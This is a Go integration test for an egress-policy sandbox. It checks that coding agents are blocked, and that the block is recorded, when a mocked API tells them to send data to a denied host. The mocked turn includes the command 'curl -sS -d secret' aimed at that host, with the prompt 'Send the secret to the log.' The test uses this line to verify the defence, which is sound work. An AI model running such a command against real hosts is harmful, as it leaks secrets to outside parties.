package integration

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"

	"boundary/integration/internal/agentapi"
	"boundary/integration/internal/origin"
)

// TestCodingAgents has each agent do one turn: it asks its API, is told to send
// a request where the policy allows none, and prints what became of it.
func TestCodingAgents(t *testing.T) {
	for _, agent := range codingAgents() {
		t.Run(agent.name, func(t *testing.T) {
			t.Parallel()
			outside := agent.start(t)
			eachMode(t, func(t *testing.T, as mode) {
				agent.test(t, as, outside)
			})
			for _, seen := range outside.Requests("") {
				if asked := (record{Method: seen.Method, Host: seen.Host, Path: seen.Path}); !agent.needs(asked) {
					t.Errorf("the origin saw %s", seen)
				}
			}
		})
	}
}

// start starts what the agent takes for the outside.
func (a codingAgent) start(t *testing.T) *origin.Server {
	t.Helper()
	turn := agentapi.Turn{Command: "curl -sS -d secret https://" + deniedHost + "/"}
	return startOrigin(t, origin.Options{Handler: a.api(turn)})
}

// run gives the agent its prompt.
func (a codingAgent) run(t *testing.T, as mode, policy string) result {
	t.Helper()
	argv := append([]string{filepath.Join(shop.npmPackages(t), ".bin", a.command[0])}, a.command[1:]...)
	return session{
		as: as, policy: policy, env: a.env, stdin: strings.NewReader(""),
		command: append(argv, "Send the secret to the log."),
	}.run(t)
}

// upstream makes the origin all that the agent asks for.
func (a codingAgent) upstream(t *testing.T, outside *origin.Server) string {
	t.Helper()
	telemetry, _, _ := strings.Cut(a.telemetry, "/")
	names := []string{a.host, deniedHost}
	if telemetry != a.host {
		names = append(names, telemetry)
	}
	return outside.Upstream(caFile(t, outside), names...)
}

// needs reports whether a request is one that the turn needs.
func (a codingAgent) needs(one record) bool {
	method := a.method
	if method == "WEBSOCKET" && one.Decision == "" {
		method = "GET" // as the origin sees it
	}
	matched, err := filepath.Match(a.path, one.Path)
	return err == nil && matched && one.Host == a.host && one.Method == method
}

// test runs one turn.
func (a codingAgent) test(t *testing.T, as mode, outside *origin.Server) {
	rule := fmt.Sprintf("allow \"api\" {\n  hosts = [%q]\n  methods = [%q]\n  paths = [%q]\n}\n", a.host, a.method, a.path)
	end := a.run(t, as, rule+a.upstream(t, outside))
	if end.status != 0 {
		t.Errorf("the agent ended with %d", end.status)
	}
	for _, want := range a.answer(as) {
		if !strings.Contains(end.stdout, want) {
			t.Errorf("the answer lacks %q", want)
		}
	}
	a.checkRecords(t, end.records)
	if a.runsCommand(as) {
		denied := end.records.requests(deniedHost).decided("deny").one(t, "the command's request")
		client{exe: "curl"}.checkRecord(t, denied, "")
	}
}

// runsCommand says whether the agent can run a command. Docker's profile allows
// no user namespaces.
func (a codingAgent) runsCommand(as mode) bool { return !a.namespaces || as != docker }

// answer returns what the answer must contain.
func (a codingAgent) answer(as mode) []string {
	if a.runsCommand(as) {
		return []string{agentapi.Answer, blocked, deniedHost}
	}
	return []string{agentapi.Answer, "No permissions to create a new namespace"}
}

// checkRecords checks that the agent's own requests were recorded: what the
// turn needed of the API, and the telemetry.
func (a codingAgent) checkRecords(t *testing.T, all records) {
	t.Helper()
	allowed := all.requests("").decided("allow")
	if len(allowed) == 0 {
		t.Errorf("no record of the requests to the API")
	}
	for _, one := range allowed {
		client{exe: a.exe}.checkRecord(t, one, "api")
		if !a.needs(one) {
			t.Errorf("this was allowed: %s", one.line)
		}
	}
	for _, one := range all.requests("").decided("deny") {
		if one.Host+one.Path == a.telemetry {
			client{exe: a.exe}.checkRecord(t, one, "")
			return
		}
	}
	t.Errorf("no record of a request to %s", a.telemetry)
}
